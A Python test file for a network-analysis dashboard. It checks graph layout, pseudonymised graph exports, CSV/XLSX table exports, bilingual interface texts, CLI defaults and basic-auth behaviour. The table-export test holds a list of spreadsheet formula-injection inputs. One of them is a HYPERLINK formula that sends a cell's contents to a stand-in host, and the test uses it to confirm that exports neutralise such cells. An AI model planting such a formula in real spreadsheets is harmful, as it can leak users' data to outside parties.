"""The dashboard's building blocks on hand-made views: layout, elements, exports, CLI, auth.

The browser tests (``test_dashboard_browser.py``) check the served pages; these check the
pieces they are made of, on graphs whose answers are known by hand (star, line, isolates).
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
import urllib.error
import urllib.request
import zipfile
from base64 import b64encode

import networkx as nx
import openpyxl
import pandas as pd
import pytest
from support.browser import free_port, served_dashboard

from analytics.brokerage import ROLES
from analytics.compare import compare_views
from analytics.ideal_types import IDEAL_TYPES
from analytics.layout import ROW_LENGTH, gather_isolates, stable_positions
from analytics.metrics import compute_metrics, headline, person_metrics
from analytics.view import View
from cypher.model import POLITICAL_BODY_KINDS, Arc, Person
from dashboard.app import AuthSettingsError, create_app
from dashboard.cli import DEFAULT_HOST, DEFAULT_PORT
from dashboard.data import body_labels, municipality_labels
from dashboard.elements import (
    POLITICAL_ROWS,
    difference_elements,
    network_elements,
    node_token,
    political_positions,
)
from dashboard.exports import graph_file, labelled_graph, table_file
from dashboard.i18n import _TEXTS, LANGUAGES, csv_delimiter, function_label, number, text
from netkart.cli import build_parser


def _view(round_label: str, persons: list[Person], ties: list[tuple[str, str, str]]) -> View:
    arcs = tuple(Arc(u, v, f) for u, v, f in ties)
    return View("Testvik", round_label, "monthly", tuple(persons), arcs, alias="T")


def _person(pid: str, *functions: str, responded: bool = True) -> Person:
    return Person(pid, functions or ("services",), responded, name=f"Navn {pid}")


# A star: c in the centre with four leaves, plus two isolates (one a non-respondent).
STAR = _view(
    "2013",
    [
        _person("c", "allocation", "services"),
        *(_person(f"l{i}") for i in range(4)),
        _person("i1", "instruments"),
        _person("i2", "operation", responded=False),
    ],
    [("c", f"l{i}", "daily" if i < 2 else "weekly") for i in range(4)],
)
# The same municipality earlier: a line l0 - c - l1 - x, where x left and l2, l3 not yet there.
LINE = _view(
    "2011",
    [_person("c", "allocation"), _person("l0"), _person("l1"), _person("x", "drift"), _person("i1", "instruments")],
    [("l0", "c", "daily"), ("c", "l1", "weekly"), ("l1", "x", "monthly")],
)


def test_a_tie_keeps_its_element_id_across_views_so_the_graph_is_updated_not_redrawn():
    positions = stable_positions([LINE, STAR])
    ids = {}
    for view in (LINE, STAR):
        elements = network_elements(view, person_metrics(view), {}, positions)
        ties = [e["data"] for e in elements if "source" in e["data"]]
        assert len({t["id"] for t in ties}) == len(ties) == view.graph.number_of_edges()
        ids[view.round] = {frozenset((t["source"], t["target"])): t["id"] for t in ties}
    # c-l0 and c-l1 are ties in both rounds (l0-c was written the other way round in 2011).
    shared = set(ids["2011"]) & set(ids["2013"])
    assert shared == {frozenset((node_token("c"), node_token("l0"))), frozenset((node_token("c"), node_token("l1")))}
    assert all(ids["2011"][pair] == ids["2013"][pair] for pair in shared)
    # ... and a tie in only one round has an id no tie of the other round has.
    assert not (set(ids["2011"].values()) - {ids["2011"][p] for p in shared}) & set(ids["2013"].values())


def test_stable_positions_cover_everyone_and_ignore_round_order():
    forward = stable_positions([LINE, STAR])
    backward = stable_positions([STAR, LINE])
    assert forward == backward
    assert set(forward) == set(LINE.person_by_id) | set(STAR.person_by_id)


def test_persons_without_any_tie_in_any_round_form_a_row_below():
    positions = stable_positions([LINE, STAR])
    loners = ["i1", "i2"]  # no tie in either round
    others = [xy for pid, xy in positions.items() if pid not in loners]
    assert positions["i1"][1] == positions["i2"][1] > max(y for _, y in others)
    # sorted by primary function: instruments before operation
    assert positions["i1"][0] < positions["i2"][0]


def test_gather_isolates_centres_and_wraps_the_row():
    persons = {f"p{i:02d}": _person(f"p{i:02d}") for i in range(ROW_LENGTH + 3)}
    placed = {"a": (0.0, 0.0), "b": (1000.0, 200.0)}
    row = gather_isolates(placed, persons, persons)
    assert len(row) == ROW_LENGTH + 3
    first_row = [xy for xy in row.values() if xy[1] == row["p00"][1]]
    assert len(first_row) == ROW_LENGTH
    assert min(y for _, y in row.values()) > 200.0
    xs = sorted(x for x, _ in first_row)
    assert (xs[0] + xs[-1]) / 2 == pytest.approx(500.0)


def test_political_positions_put_bodies_in_a_row_above_blocks_of_functions():
    labels = {pid: f"Label {pid}" for pid in STAR.person_by_id}
    persons, bodies = political_positions(STAR, labels, ["mayor", "council", "committee-1"])
    assert political_positions(STAR, labels, ["mayor", "council", "committee-1"]) == (persons, bodies)
    # One row of bodies, in the order given, above every person.
    assert len({y for _, y in bodies.values()}) == 1
    assert bodies["mayor"][0] < bodies["council"][0] < bodies["committee-1"][0]
    assert max(y for _, y in bodies.values()) < min(y for _, y in persons.values())
    # Blocks in the order of the functions (services, allocation, instruments, ..., operation):
    # c's primary function is allocation, so the four services persons stand left of it.
    services = [pid for pid, p in STAR.person_by_id.items() if p.primary_function == "services"]
    assert len(services) == 4 < POLITICAL_ROWS and max(persons[p][0] for p in services) < persons["c"][0]
    assert persons["c"][0] < persons["i1"][0] < persons["i2"][0]
    # Fewer than POLITICAL_ROWS: one column, one person to a row, in the order of the labels.
    column = sorted(services, key=labels.get)
    assert len({persons[p][0] for p in column}) == 1
    assert [persons[p][1] for p in column] == sorted({persons[p][1] for p in column})


def test_network_elements_encode_the_star():
    stats = person_metrics(STAR)
    labels = {pid: f"Label {pid}" for pid in STAR.person_by_id}
    elements = network_elements(STAR, stats, labels, stable_positions([STAR]))
    nodes = {e["data"]["label"]: e for e in elements if "source" not in e["data"]}
    edges = [e for e in elements if "source" in e["data"]]
    assert len(nodes) == STAR.graph.number_of_nodes() == 7
    assert len(edges) == STAR.graph.number_of_edges() == 4
    assert sorted(e["classes"] for e in edges) == ["daily", "daily", "weekly", "weekly"]
    centre = nodes["Label c"]
    assert {"bridge-builder", "cut-point", "multi"} <= set(centre["classes"].split())
    assert centre["data"]["size"] > max(n["data"]["size"] for k, n in nodes.items() if k != "Label c")
    assert centre["data"]["c1"] != centre["data"]["c2"]  # pie of allocation and services
    # Fill colour by primary function, as a class (the stylesheet has one rule per function).
    assert "fn-allocation" in centre["classes"].split()
    assert "fn-operation" in nodes["Label i2"]["classes"].split()
    assert "nonrespondent" in nodes["Label i2"]["classes"]
    assert {k for k, n in nodes.items() if "isolate" in n["classes"]} == {"Label i1", "Label i2"}
    # Element ids are opaque: no person id or name reaches the browser.
    assert all(nodes[f"Label {pid}"]["data"]["id"] == node_token(pid) for pid in STAR.person_by_id)
    assert not {n["data"]["id"] for n in nodes.values()} & set(STAR.person_by_id)


def test_gathered_isolates_move_and_connected_persons_stay():
    stats = person_metrics(LINE)
    positions = stable_positions([LINE, STAR])
    labels = {pid: pid for pid in positions}
    gathered = {
        e["data"]["label"]: e["position"]
        for e in network_elements(LINE, stats, labels, positions, gather=True)
        if "position" in e
    }
    kept = {
        e["data"]["label"]: e["position"]
        for e in network_elements(LINE, stats, labels, positions, gather=False)
        if "position" in e
    }
    for pid in ("c", "l0", "l1", "x"):
        assert gathered[pid] == kept[pid] == {"x": positions[pid][0], "y": positions[pid][1]}


def test_difference_elements_follow_compare_views():
    comparison = compare_views(LINE, STAR, permutations=10)
    labels = {pid: pid for pid in set(LINE.person_by_id) | set(STAR.person_by_id)}
    stats = (person_metrics(LINE), person_metrics(STAR))
    elements = difference_elements(LINE, STAR, comparison, labels, stable_positions([LINE, STAR]), stats)
    changes = {c: sum(1 for e in elements if e.get("classes") == c) for c in ("new", "dropped", "stable")}
    # Hand count: stable c-l0, c-l1; dropped l1-x; new c-l2, c-l3.
    assert changes == {"new": 2, "dropped": 1, "stable": 2}
    classes = {e["data"]["label"]: e["classes"].split() for e in elements if "label" in e["data"]}
    assert {p for p, c in classes.items() if "joined" in c} == {"l2", "l3", "i2"}
    assert {p for p, c in classes.items() if "left" in c} == {"x"}
    # Positions as the other graphs class them, in the later round a person is in: c is the
    # star's bridge-builder and cut point; l1, a cut point of the line, is a leaf of the star.
    assert {p for p, c in classes.items() if "bridge-builder" in c} == {"c"}
    assert {p for p, c in classes.items() if "cut-point" in c} == {"c"}
    assert {p for p, c in classes.items() if "isolate" in c} == {"i1", "i2"}


def test_graph_exports_round_trip_with_pseudonyms_only():
    labels = {pid: f"Tjenester {i}" for i, pid in enumerate(sorted(STAR.person_by_id))}
    graph = labelled_graph(STAR.graph, labels, stable_positions([STAR]))
    for kind, reader in (("graphml", nx.read_graphml), ("gexf", nx.read_gexf)):
        raw = graph_file(graph, kind)
        back = reader(io.BytesIO(raw))
        assert back.number_of_nodes() == 7 and back.number_of_edges() == 4
        assert set(back.nodes) == set(labels.values())
        assert b"Navn" not in raw  # roster names never reach an export
        assert b"Enhet" not in raw and b"Rolle" not in raw  # nor units or roles
        assert {key for n in back.nodes for key in back.nodes[n]} <= {
            "label",
            "functions",
            "primary_function",
            "responded",
            "x",
            "y",
        }
    with pytest.raises(ValueError, match="graphml or gexf"):
        graph_file(graph, "dot")


def test_graph_exports_key_persons_by_id_so_two_persons_sharing_a_name_stay_two():
    twins = _view(
        "2013",
        [
            Person("p1", ("services",), True, name="Kari Nordmann"),
            Person("p2", ("services",), True, name="Kari Nordmann"),
        ],
        [("p1", "p2", "daily")],
    )
    names = {p.person_id: p.name for p in twins.persons}
    for kind, reader in (("graphml", nx.read_graphml), ("gexf", nx.read_gexf)):
        back = reader(io.BytesIO(graph_file(labelled_graph(twins.graph, names, show_ids=True), kind)))
        assert sorted(back.nodes) == ["p1", "p2"]
        assert back.number_of_edges() == 1
        assert {back.nodes[n]["label"] for n in back.nodes} == {"Kari Nordmann"}
    # Keyed by a label that two persons share, they would merge: that is refused.
    with pytest.raises(ValueError, match="not unique"):
        labelled_graph(twins.graph, names)


_HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"klikk")', "+1+2", "-3+4", "@SUM(A1)", "\tTAB", "\rCR"]


def test_table_exports_write_formula_like_cells_as_text():
    frame = pd.DataFrame({"=Hode": _HOSTILE, "Grad": [-1, 2, 3, 4, 5, 6], "Andel": [-0.5, 0.25, 1.0, 0.0, 2.5, 3.0]})
    for lang, delimiter in (("nb", ";"), ("en", ",")):
        rows = list(csv.reader(io.StringIO(table_file(frame, "csv", lang).decode("utf-8-sig")), delimiter=delimiter))
        assert rows[0] == ["'=Hode", "Grad", "Andel"]
        # OWASP: a leading apostrophe makes the spreadsheet read each of these as text ...
        assert [r[0] for r in rows[1:]] == ["'" + v for v in _HOSTILE]
        # ... while numbers, negative ones too, stay numbers in the language's notation.
        assert [r[1] for r in rows[1:]] == ["-1", "2", "3", "4", "5", "6"]
        expected = ["-0,5", "0,25", "1", "0", "2,5", "3"] if lang == "nb" else ["-0.5", "0.25", "1", "0", "2.5", "3"]
        assert [r[2] for r in rows[1:]] == expected
    raw = table_file(frame, "xlsx")
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula cell at all
    book = openpyxl.load_workbook(io.BytesIO(raw))
    cells = [row[0] for row in book.active.iter_rows(min_row=2, values_only=True)]
    # (Some openpyxl versions read a lone carriage return back as a line feed; text either way.)
    assert [cell.replace("\r", "\n") for cell in cells] == [*_HOSTILE[:-1], "\nCR"]
    assert all(row[0].data_type == "s" for row in book.active.iter_rows(min_row=1))
    assert [row[1] for row in book.active.iter_rows(min_row=2, values_only=True)] == [-1, 2, 3, 4, 5, 6]


def test_table_exports_round_trip_with_norwegian_letters():
    frame = pd.DataFrame({"Funksjon": ["Rådgivning", "Tjenester"], "Grad": [3, 0], "Tetthet": [0.125, 0.5]})
    english = pd.read_csv(io.BytesIO(table_file(frame, "csv", "en")), encoding="utf-8-sig")
    assert english.equals(frame)
    bokmal = pd.read_csv(io.BytesIO(table_file(frame, "csv", "nb")), encoding="utf-8-sig", sep=";", decimal=",")
    assert bokmal.equals(frame)
    assert pd.read_excel(io.BytesIO(table_file(frame, "xlsx"))).equals(frame)
    assert table_file(frame, "csv").startswith(b"\xef\xbb\xbf")
    with pytest.raises(ValueError, match="csv or xlsx"):
        table_file(frame, "ods")


def test_numbers_have_a_decimal_comma_in_bokmal():
    assert [number(v, "nb") for v in (0.1234, 2.0, -0.5, 7, None, "x", float("nan"))] == [
        "0,123",
        "2",
        "-0,5",
        "7",
        "",
        "x",
        "",
    ]
    assert [number(v, "en") for v in (0.1234, 2.0, -0.5, 7)] == ["0.123", "2", "-0.5", "7"]
    assert (csv_delimiter("nb"), csv_delimiter("en")) == (";", ",")


def test_every_interface_text_exists_in_both_languages():
    assert all(len(pair) == len(LANGUAGES) and all(pair) for pair in _TEXTS.values())
    assert text("db_down", "en") == "The database cannot be reached; retrying …"
    assert text("db_down", "nb") == "Databasen kan ikke nås; prøver igjen …"
    assert function_label("counselling", "nb") == "Rådgivning"
    assert function_label("counselling", "en") == "Financial counselling"
    with pytest.raises(KeyError, match="no_such_key"):
        text("no_such_key", "nb")


def test_every_code_key_a_page_shows_has_a_text():
    """Headline measures, turnover figures, ideal types, brokerage roles and body kinds are
    shown by their text; a missing one would put a snake_case key on the page."""
    comparison = compare_views(LINE, STAR, permutations=10)
    keys = set(headline(compute_metrics(STAR))) | set(comparison["metrics"]["delta"])
    turnover = ["persons_joined", "persons_left", "ties_new", "ties_dropped", "ties_stable", "ties_jaccard"]
    keys |= {*turnover, "qap_correlation", "qap_p_value"}
    keys |= {*IDEAL_TYPES, "mixed", *ROLES, *POLITICAL_BODY_KINDS}
    for lang in LANGUAGES:
        assert not [key for key in keys if "_" in text(key, lang)]
    assert text("betweenness", "nb") == "Mellomsentralitet"
    assert text("bridge_builder", "nb") == "Brobygger"


def test_anonymised_municipality_labels_number_the_unaliased_in_name_order():
    labels = municipality_labels([("Ørland", None), ("Bodø", "B"), ("Alta", None), ("Moss", "A")])
    assert labels == {"Alta": "#1", "Ørland": "#2", "Bodø": "B", "Moss": "A"}


def test_committees_become_numbered_in_anonymised_mode():
    bodies = [
        {"key": "b3", "name": "Teknisk utvalg", "kind": "committee"},
        {"key": "b1", "name": "Ordfører", "kind": "mayor"},
        {"key": "b2", "name": "Helse- og omsorgsutvalget", "kind": "committee"},
    ]
    assert body_labels(bodies, "nb") == {"b1": "Ordfører", "b2": "Utvalg 1", "b3": "Utvalg 2"}
    assert body_labels(bodies, "en")["b2"] == "Committee 1"


def test_serve_defaults_are_local_anonymised_and_port_8050():
    args = build_parser().parse_args(["serve"])
    assert (args.host, args.port, args.show_names) == (DEFAULT_HOST, DEFAULT_PORT, False) == ("127.0.0.1", 8050, False)
    args = build_parser().parse_args(["serve", "--host", "0.0.0.0", "--port", "9000", "--show-names"])
    assert (args.host, args.port, args.show_names) == ("0.0.0.0", 9000, True)


def test_a_user_without_a_password_is_a_startup_error(monkeypatch):
    monkeypatch.setenv("NETKART_DASH_USER", "samling")
    monkeypatch.delenv("NETKART_DASH_PASSWORD", raising=False)
    with pytest.raises(AuthSettingsError, match="NETKART_DASH_PASSWORD is not"):
        create_app()
    # The served process refuses to start, instead of serving without a login.
    served = subprocess.run(
        [sys.executable, "-m", "netkart.cli", "serve", "--port", str(free_port())],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert served.returncode != 0
    assert "NETKART_DASH_USER is set but NETKART_DASH_PASSWORD is not" in served.stderr


def test_basic_auth_from_the_environment(driver, monkeypatch):
    monkeypatch.setenv("NETKART_DASH_USER", "samling")
    monkeypatch.setenv("NETKART_DASH_PASSWORD", "hemmelig-42")
    with served_dashboard() as url:
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(url + "/")
        assert refused.value.code == 401
        token = b64encode(b"samling:hemmelig-42").decode()
        request = urllib.request.Request(url + "/", headers={"Authorization": f"Basic {token}"})
        with urllib.request.urlopen(request) as answer:
            assert answer.status == 200
